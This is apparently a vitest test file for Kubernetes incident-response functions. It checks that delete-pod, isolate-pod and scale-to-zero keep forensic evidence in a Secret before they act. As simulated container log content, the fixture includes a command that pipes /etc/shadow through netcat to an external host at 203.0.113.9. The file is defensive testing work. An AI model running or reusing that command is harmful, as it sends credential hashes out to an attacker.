// The functions keep evidence before they act (the pipeline calls EvidenceCapture right before
// plan.execute()), against the reacting cluster, as their own ServiceAccounts with the RBAC the
// manifests ship: the Secret holds the pod, the alert, its Events and the lines its container
// wrote; a log endpoint that hangs delays the delete by EVIDENCE_TIMEOUT_MS at most, and the
// decision, the Event and the metric say what is missing; dry-runs and EVIDENCE=off keep nothing.
import { describe, expect, it } from 'vitest';
import { deletePodSpec } from '../../../functions/delete-pod/spec.ts';
import { isolatePodSpec } from '../../../functions/isolate-pod/spec.ts';
import { scaleToZeroSpec } from '../../../functions/scale-to-zero/spec.ts';
import { SHIPPED_EVIDENCE } from '../../../packaging/rbac.ts';
import { evidenceContentOf } from '../../../shared/forensics/evidence-record.ts';
import { alertFor } from '../../../testbed/alerts/alerts.ts';
import { countWrites, writesOf } from '../../../testbed/cluster/audit.ts';
import type { FunctionUnderTest } from '../../../testbed/functions/function-under-test.ts';
import { useFunctionTestBed } from '../../../testbed/functions/function-test-bed.ts';
import { writeContainerLogs } from '../../../testbed/workloads/container-logs.ts';
import { createDeployment } from '../../../testbed/workloads/controllers.ts';
import { createPod, functionEventsIn, shortContainerId, waitForPodGone } from '../../../testbed/workloads/pods.ts';
import { startStuckKubeletNode } from '../../../testbed/workloads/stuck-kubelet.ts';

const EVIDENCE = SHIPPED_EVIDENCE.namespace;
const bed = useFunctionTestBed(deletePodSpec);
const isolate = useFunctionTestBed(isolatePodSpec);
const scale = useFunctionTestBed(scaleToZeroSpec);

async function captures(fn: FunctionUnderTest): Promise<Record<string, number>> {
  const metric = await fn.metrics.registry.getSingleMetric('falco_response_evidence_captures_total')!.get();
  return Object.fromEntries(metric.values.map((v) => [String(v.labels.result), v.value]));
}

const secretWritesBy = (fn: FunctionUnderTest, since: number) =>
  countWrites(bed.cluster, { user: fn.identity, namespace: EVIDENCE, resource: 'secrets', since, succeededOnly: true });

async function evidenceSecret(name: string) {
  const secret = await bed.api.core.readNamespacedSecret({ namespace: EVIDENCE, name });
  return { secret, content: evidenceContentOf(secret) };
}

describe('delete-pod keeps evidence before it deletes', () => {
  it('the evidence Secret holds the pod as read, the alert, its Events and the lines its container wrote; the decision, Event and metric name it', async () => {
    const fn = await bed.start();
    const pod = await createPod(bed.api, bed.ns, 'victim');
    await writeContainerLogs(bed.cluster, bed.api, bed.ns, 'victim', {
      app: { current: ['listening on :8080', 'sh -c "cat /etc/shadow | nc 203.0.113.9 4444"'] },
    });
    const { decision } = await bed.send(fn, alertFor(bed.ns, 'victim', shortContainerId(pod)));
    const name = `delete-pod-${pod.metadata!.uid}`;
    expect(decision).toMatchObject({
      outcome: 'acted',
      reason: 'deleted',
      details: { evidenceRecord: { mode: 'logs', secret: `${EVIDENCE}/${name}`, result: 'complete', missing: [], cut: [] } },
    });
    expect(decision.warnings).toEqual([expect.stringMatching(/bare pod/)]);
    await waitForPodGone(bed.api, bed.ns, 'victim');

    const { secret, content } = await evidenceSecret(name);
    expect(secret.type).toBe('falco-response.dev/evidence');
    expect(content.pod.metadata).toMatchObject({ name: 'victim', namespace: bed.ns, uid: pod.metadata!.uid });
    expect(content.pod.status?.phase).toBe('Running');
    expect(content.alert).toMatchObject({
      rule: 'Terminal shell in container',
      output_fields: expect.objectContaining({ 'k8s.pod.name': 'victim' }),
    });
    expect(content.events.map((event) => event.reason)).toContain('Scheduled');
    expect(content.logs).toEqual([
      { container: 'app', instance: 'current', text: 'listening on :8080\nsh -c "cat /etc/shadow | nc 203.0.113.9 4444"\n' },
    ]);
    expect(content.summary).toMatchObject({
      function: 'delete-pod',
      missing: [],
      pod: { namespace: bed.ns, name: 'victim', uid: pod.metadata!.uid },
    });

    const [event] = await functionEventsIn(bed.api, bed.ns);
    expect(event!.note).toContain(`Evidence kept in Secret ${EVIDENCE}/${name}.`);
    expect(await captures(fn)).toEqual({ complete: 1, incomplete: 0, failed: 0 });
    // Kept first: the API server had stored the Secret before the delete arrived (its audit log, by the function's identity).
    const [stored] = writesOf(bed.cluster, {
      user: fn.identity,
      namespace: EVIDENCE,
      resource: 'secrets',
      since: bed.since,
      succeededOnly: true,
    });
    const [deleted] = writesOf(bed.cluster, {
      user: fn.identity,
      namespace: bed.ns,
      resource: 'pods',
      since: bed.since,
      succeededOnly: true,
    });
    expect(stored!.objectRef?.name).toBe(name);
    expect(deleted!.verb).toBe('delete');
    expect(Date.parse(stored!.stageTimestamp)).toBeLessThanOrEqual(Date.parse(deleted!.requestReceivedTimestamp));
  });

  it('a log endpoint that hangs: the pod is deleted within EVIDENCE_TIMEOUT_MS, and the decision, Event and metric say the evidence is incomplete', async () => {
    const fn = await bed.start({ EVIDENCE_TIMEOUT_MS: '1000' });
    const stuck = await startStuckKubeletNode(bed.api);
    try {
      const pod = await createPod(bed.api, bed.ns, 'stuck', { nodeName: stuck.node });
      const started = performance.now();
      const { decision } = await bed.send(fn, alertFor(bed.ns, 'stuck', shortContainerId(pod)));
      const took = performance.now() - started;
      expect(decision).toMatchObject({
        outcome: 'acted',
        reason: 'deleted',
        details: {
          evidenceRecord: {
            result: 'incomplete',
            secret: `${EVIDENCE}/delete-pod-${pod.metadata!.uid}`,
            missing: ['log app (current): timed out (EVIDENCE_TIMEOUT_MS)'],
          },
        },
      });
      expect(decision.details.evidenceRecord.durationMs).toBeLessThanOrEqual(1100);
      // The capture's 1 s plus the reads and the delete of an idle test cluster.
      expect(took).toBeLessThan(1000 + 1500);
      expect(decision.warnings).toContainEqual(
        expect.stringMatching(/^evidence incomplete in Secret .*: missing log app \(current\): timed out/),
      );
      const current = await bed.api.core.readNamespacedPod({ namespace: bed.ns, name: 'stuck' }).catch(() => undefined);
      expect(current === undefined || current.metadata?.deletionTimestamp !== undefined).toBe(true);
      const [event] = await functionEventsIn(bed.api, bed.ns);
      expect(event!.note).toMatch(/Evidence kept in Secret \S+, incomplete \(missing log app \(current\): timed out/);
      expect(await captures(fn)).toEqual({ complete: 0, incomplete: 1, failed: 0 });
      // What could be kept is: the pod and the alert.
      expect((await evidenceSecret(`delete-pod-${pod.metadata!.uid}`)).content.pod.metadata!.name).toBe('stuck');
    } finally {
      await stuck.close();
    }
  });

  it('dry-run and EVIDENCE=off keep nothing; EVIDENCE=facts keeps no log', async () => {
    const since = Date.now() - 1;
    const dry = await bed.start({ DRY_RUN: 'true' });
    const pod = await createPod(bed.api, bed.ns, 'watched');
    const dryAnswer = await bed.send(dry, alertFor(bed.ns, 'watched', shortContainerId(pod)));
    expect(dryAnswer.decision).toMatchObject({ outcome: 'dry-run' });
    expect(dryAnswer.decision.details.evidenceRecord).toBeUndefined();

    const off = await bed.start({ EVIDENCE: 'off' });
    const offAnswer = await bed.send(off, alertFor(bed.ns, 'watched', shortContainerId(pod)));
    expect(offAnswer.decision).toMatchObject({ outcome: 'acted' });
    expect(offAnswer.decision.details.evidenceRecord).toBeUndefined();
    expect((await functionEventsIn(bed.api, bed.ns))[0]!.note).not.toContain('Evidence kept');
    expect(secretWritesBy(off, since)).toBe(0);
    expect(await captures(off)).toEqual({ complete: 0, incomplete: 0, failed: 0 });

    const facts = await bed.start({ EVIDENCE: 'facts' });
    const other = await createPod(bed.api, bed.ns, 'other');
    await writeContainerLogs(bed.cluster, bed.api, bed.ns, 'other', { app: { current: ['a line'] } });
    const factsAnswer = await bed.send(facts, alertFor(bed.ns, 'other', shortContainerId(other)));
    expect(factsAnswer.decision.details.evidenceRecord).toMatchObject({ mode: 'facts', result: 'complete' });
    expect((await evidenceSecret(`delete-pod-${other.metadata!.uid}`)).content.logs).toEqual([]);
    expect(secretWritesBy(facts, since)).toBe(1);
  });
});

describe('isolate-pod and scale-to-zero keep evidence too', () => {
  it('isolate-pod: before the quarantine, one Secret named for the function and the pod', async () => {
    const fn = await isolate.start();
    const pod = await createPod(isolate.api, isolate.ns, 'web');
    await writeContainerLogs(isolate.cluster, isolate.api, isolate.ns, 'web', { app: { current: ['served /'] } });
    const { decision } = await isolate.send(fn, alertFor(isolate.ns, 'web', shortContainerId(pod)));
    expect(decision).toMatchObject({
      outcome: 'acted',
      details: { evidenceRecord: { result: 'complete', secret: `${EVIDENCE}/isolate-pod-${pod.metadata!.uid}` } },
    });
    expect((await evidenceSecret(`isolate-pod-${pod.metadata!.uid}`)).content.logs[0]!.text).toBe('served /\n');
  });

  it('scale-to-zero: the pod the alert names, with its owner chain up to the Deployment', async () => {
    const fn = await scale.start();
    const { pods } = await createDeployment(scale.api, scale.ns, 'shop', { replicas: 1 });
    const pod = pods[0]!;
    const { decision } = await scale.send(fn, alertFor(scale.ns, pod.metadata!.name!));
    expect(decision).toMatchObject({
      outcome: 'acted',
      details: { evidenceRecord: { secret: `${EVIDENCE}/scale-to-zero-${pod.metadata!.uid}` } },
    });
    const { content } = await evidenceSecret(`scale-to-zero-${pod.metadata!.uid}`);
    expect(content.owner).toMatchObject({ kind: 'Deployment', name: 'shop' });
  });
});
